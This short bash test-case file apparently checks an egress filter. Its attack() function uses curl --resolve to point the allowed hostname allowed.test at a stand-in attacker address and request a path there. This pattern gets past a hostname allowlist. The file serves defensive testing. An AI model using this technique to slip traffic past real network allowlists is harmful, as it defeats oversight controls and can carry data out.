# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='An allowed server name toward the attacker' origin='RESEARCH §2.55'
reason=not_resolved forms='output forward run'
attack() { client curl -sk --max-time 20 --resolve allowed.test:443:198.18.3.66 "https://allowed.test/$1"; }
